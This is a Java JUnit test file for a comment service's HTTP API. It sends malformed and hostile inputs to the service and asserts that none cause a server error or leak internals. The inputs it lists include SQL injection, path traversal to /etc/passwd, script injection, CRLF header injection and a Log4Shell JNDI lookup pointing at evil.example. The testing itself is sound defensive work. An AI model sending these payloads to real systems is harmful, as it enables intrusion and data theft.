package io.causerie;

import static io.causerie.testing.TestApp.JSON;
import static io.causerie.testing.TestApp.comment;
import static org.assertj.core.api.Assertions.assertThat;

import io.causerie.testing.Answer;
import io.causerie.testing.ServiceTest;
import io.causerie.testing.TestApp;
import io.vertx.core.buffer.Buffer;
import io.vertx.core.http.HttpMethod;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Nothing that anybody sends is our failure, and every refusal is a problem with a code. */
@ServiceTest
final class BadInputTest {
  private static final List<String> BAD = List.of(
      "",
      "%00",
      "%zz",
      "%",
      "%ff%fe",
      "%ed%a0%80",
      "%27%20or%201=1%20--",
      "1;drop%20table%20comments",
      "..%2f..%2fetc%2fpasswd",
      "-1",
      "NaN",
      "99999999999999999999",
      "ZZZZZZZZZZZZZ",
      "7ZZZZZZZZZZZZ",
      "%F0%9F%98%80",
      "a".repeat(600),
      "%E2%80%AE");

  /** In addresses, and likewise {@code :id} for that of a comment. */
  private static final String SITE = "/api/v1/sites/:site";

  private static final String TEAM = SITE + "/moderation";

  /** Every field of every request, with what it cannot be. */
  private static final List<String> TEAM_BODIES = List.of(
      "",
      "[]",
      "null",
      "{}",
      "{\"ids\":[{}],\"status\":[]}",
      "{\"ids\":[\"\u0000\",\"\uFFFF\",null],\"status\":\"gone\",\"basedOn\":7,\"reason\":[]}",
      "{\"thread\":7,\"from\":{},\"into\":[],\"key\":true,\"closed\":\"yes\",\"pinned\":\"a\"}",
      "{\"thread\":\"/there\",\"key\":\"\",\"slowModeSeconds\":1e99,\"pinned\":[null,{}]}",
      "{\"thread\":\"/there\",\"slowModeSeconds\":-1,\"premoderated\":0,\"reason\":\"\\u0001\"}",
      "{\"authorId\":{},\"commentId\":[],\"address\":\"::/0\",\"until\":\"soon\",\"reason\":9}",
      "{\"address\":\"999.1.1.1/33\",\"reason\":\"\",\"until\":\"+999999999-12-31T23:59:59Z\"}",
      "{\"address\":\"203.0.113.0/24\",\"reason\":\"a\",\"until\":\"+999999-12-31T23:59:59Z\"}",
      "{\"commentId\":\"7ZZZZZZZZZZZZ\",\"network\":\"planet\",\"reason\":\"a\",\"remove\":\"b\"}",
      "{\"bannedWords\":{},\"suspectWords\":[1],\"maxBodyLength\":\"long\",\"honeypot\":[]}",
      "{\"name\":[],\"scopes\":\"all\"}",
      "{\"name\":\"\\u202E\",\"scopes\":[\"all\",7,null]}");

  private static TestApp app;
  private static String id;

  @BeforeAll
  static void post(TestApp given) {
    app = given;
    id = app.postId(comment("/there", "Hello"));
  }

  static Stream<String> reads() {
    return Stream.of(
            "/api/v1/sites/%s/comments?thread=a",
            "/api/v1/sites/%s/counts?thread=a",
            "/api/v1/sites/%s/me?thread=a",
            SITE + "/comments?thread=%s",
            SITE + "/comments?thread=a&sort=%s",
            SITE + "/comments?thread=a&limit=%s",
            SITE + "/comments?thread=a&after=%s",
            SITE + "/comments?thread=a&body=%s",
            SITE + "/comments?thread=a&thread=%s",
            SITE + "/comments?%s=1",
            SITE + "/counts?thread=%s",
            SITE + "/me?thread=%s",
            SITE + "/comments/%s",
            SITE + "/comments/%s/replies",
            SITE + "/comments/:id/replies?limit=%s",
            SITE + "/comments/:id/replies?after=%s",
            SITE + "/comments/%s/source",
            SITE + "/%s",
            "/api/v1/%s",
            "/locales/%s",
            "/demo/%s",
            "/%s")
        .flatMap(template -> BAD.stream().map(bad -> template.replace("%s", bad)));
  }

  @ParameterizedTest
  @MethodSource("reads")
  void noAddressIsOurFailure(String target) {
    assertHandled(send(HttpMethod.GET, target, Map.of(), null));
  }

  static Stream<String> teamReads() {
    return Stream.of(
            "/api/v1/sites/%s/moderation/totals",
            TEAM + "/comments?status=%s",
            TEAM + "/comments?flagged=%s",
            TEAM + "/comments?thread=%s",
            TEAM + "/comments?author=%s",
            TEAM + "/comments?from=%s",
            TEAM + "/comments?to=%s",
            TEAM + "/comments?q=%s",
            TEAM + "/comments?sort=%s",
            TEAM + "/comments?after=%s",
            TEAM + "/comments?limit=%s",
            TEAM + "/comments/0%s",
            TEAM + "/threads?thread=%s",
            TEAM + "/threads?after=%s",
            TEAM + "/bans?active=%s",
            TEAM + "/bans?after=%s",
            TEAM + "/log?actor=%s",
            TEAM + "/log?action=%s",
            TEAM + "/log?comment=%s",
            TEAM + "/log?thread=%s",
            TEAM + "/log?author=%s",
            TEAM + "/log?from=%s&to=%s",
            TEAM + "/log?after=%s",
            TEAM + "/log/export?format=%s",
            TEAM + "/%s")
        .flatMap(template -> BAD.stream().map(bad -> template.replace("%s", bad)));
  }

  @ParameterizedTest
  @MethodSource("teamReads")
  void noAddressOfTheTeamIsOurFailure(String target) {
    assertHandled(send(HttpMethod.GET, target, TestApp.ADMIN, null));
  }

  static Stream<Arguments> teamWrites() {
    return Stream.of(
            "POST /decisions",
            "PATCH /threads",
            "POST /threads/merge",
            "POST /bans",
            "PATCH /settings",
            "POST /tokens")
        .map(route -> route.split(" "))
        .flatMap(route -> TEAM_BODIES.stream()
            .map(body -> Arguments.of(HttpMethod.valueOf(route[0]), route[1], body)));
  }

  @ParameterizedTest
  @MethodSource("teamWrites")
  void noBodyOfTheTeamIsOurFailure(HttpMethod method, String path, String body) {
    Map<String, String> headers = new HashMap<>(TestApp.ADMIN);
    headers.putAll(JSON);

    assertHandled(send(method, TEAM + path, headers, Buffer.buffer(body)));
  }

  @ParameterizedTest
  @ValueSource(strings = {"/bans/", "/tokens/"})
  void nothingIsDeletedByABadName(String path) {
    for (String bad : BAD) {
      assertHandled(send(HttpMethod.DELETE, TEAM + path + bad, TestApp.ADMIN, null));
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"TRACE", "CONNECT", "FOO", "PROPFIND", "PUT", "DELETE", "PATCH", "POST", "OPTIONS"
      })
  void noMethodIsOurFailure(String method) {
    for (String target : List.of(
        "/",
        "/nowhere",
        "/health/live",
        "/widget.js",
        SITE + "/comments?thread=a",
        SITE + "/comments/:id",
        SITE + "/comments/:id/replies",
        SITE + "/counts?thread=a",
        SITE + "/preview",
        SITE + "/me?thread=a")) {
      assertHandled(send(HttpMethod.valueOf(method), target, Map.of(), null));
    }
  }

  @Test
  void anAddressOfOtherMethodsSaysSo() {
    for (HttpMethod method : List.of(HttpMethod.PUT, HttpMethod.DELETE, HttpMethod.PATCH)) {
      Answer refused = send(method, SITE + "/counts?thread=a", Map.of(), null);

      assertThat(refused.status()).as(method.name()).isEqualTo(405);
      assertThat(refused.code()).as(method.name()).isEqualTo("method_not_allowed");
    }
  }

  @Test
  void aFileAndAnAddressWithASlashAtItsEndHaveTheirMethodsToo() {
    for (String target : List.of("/", "/openapi.yaml", "/widget.js", SITE + "/counts/")) {
      Answer refused = send(HttpMethod.PUT, target, Map.of(), null);

      assertThat(refused.status()).as(target).isEqualTo(405);
      assertThat(refused.header("Allow")).as(target).isEqualTo("GET, HEAD");
    }
    assertThat(send(HttpMethod.PUT, "/demo/", Map.of(), null).status()).isEqualTo(404);
  }

  @Test
  void aQueryThatIsNotUtf8IsRefused() {
    assertThat(app.get("/comments?thread=%FF").badFields()).containsExactly("thread");
    assertThat(app.get("/counts?thread=a&thread=%ED%A0%80").badFields()).containsExactly("thread");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "'; drop table comments; --",
        "{\"$gt\": \"\"}",
        "<script>alert(1)</script>",
        "${jndi:ldap://evil.example/a}",
        "\u202Egnp.exe",
        "\uFFFE\uFFFF",
        "\r\nSet-Cookie: a=b",
        "\t\u000B\f"
      })
  void noTextOfACommentIsOurFailure(String text) {
    String rows = "select count(*) from comments where site_id = '" + app.site() + "'";
    long before = app.database().count(rows);

    List<Answer> answers = Stream.of(
            comment("/text", text),
            comment(text, "Hello"),
            comment("/text", "Hello").put("title", text).put("url", text),
            comment("/text", "Hello").put("parentId", text),
            comment("/text", "Hello").put("author", text))
        .map(app::post)
        .toList();

    answers.forEach(BadInputTest::assertHandled);
    assertThat(app.database().count(rows) - before)
        .as("what is stored is what was taken, and what was there stays")
        .isEqualTo(answers.stream().filter(answer -> answer.status() < 300).count());
  }

  @Test
  void noHeaderIsOurFailure() {
    for (Map<String, String> headers : List.of(
        Map.of("Authorization", "Bearer " + "x".repeat(4_000)),
        Map.of("Authorization", ""),
        Map.of("Origin", "::::"),
        Map.of("Origin", ""),
        Map.of("Idempotency-Key", ""),
        Map.of("Content-Encoding", "gzip"),
        Map.of("X-Forwarded-For", "' or 1=1"),
        Map.of("Accept", "text/html"),
        Map.of("If-None-Match", "W/\"\"\",,*"),
        Map.of("Accept-Encoding", "gzip;q=x, ;;;"))) {
      assertHandled(app.post(comment("/headers", "Hello"), headers));
      assertHandled(app.get("/comments?thread=/headers", headers));
      assertHandled(app.get("/me?thread=/headers", headers));
    }
  }

  @Test
  void headersWithoutEndAreRefused() {
    Answer refused = app.get("/comments?thread=a", Map.of("X-Long", "x".repeat(20_000)));

    assertHandled(refused);
    assertThat(refused.status()).isGreaterThanOrEqualTo(400);
  }

  @Test
  void noBodyIsOurFailure() {
    for (String path : List.of("/comments", "/preview", "/comments/:id/flags")) {
      for (String body : List.of(
          "",
          "\u0000",
          "{\"body\":" + "9".repeat(5_000) + "}",
          "{\"thread\":\"a\",\"body\":\"a\",\"author\":{\"name\":{\"name\":{}}}}",
          "\uFEFF{}",
          "{\"__proto__\":{}}",
          "{\"body\":\"" + "*_`[](<>)".repeat(1_000) + "\"}",
          "{\"body\":\"" + "> ".repeat(4_900) + "a\"}",
          "{\"body\":\"" + "[".repeat(9_900) + "\"}")) {
        assertHandled(send(HttpMethod.POST, SITE + path, JSON, Buffer.buffer(body)));
      }
    }
  }

  private static Answer send(
      HttpMethod method, String target, Map<String, String> headers, @Nullable Buffer body) {
    String filled = target.replace(":site", app.site()).replace(":id", id);
    return app.send(method, filled, headers, body);
  }

  /** Below 500, and if it is a refusal, then as a problem that says nothing from inside. */
  private static void assertHandled(Answer answer) {
    String request = answer.method() + " " + answer.target();
    assertThat(answer.status()).as(request).isLessThan(500);
    if (answer.status() >= 400 && !answer.method().equals(HttpMethod.HEAD)) {
      assertThat(answer.header("Content-Type")).as(request).isEqualTo("application/problem+json");
      assertThat(answer.code()).as(request).isNotEmpty();
      assertThat(answer.text()).as(request).doesNotContain("Exception", "io.causerie", "select ");
    }
  }
}
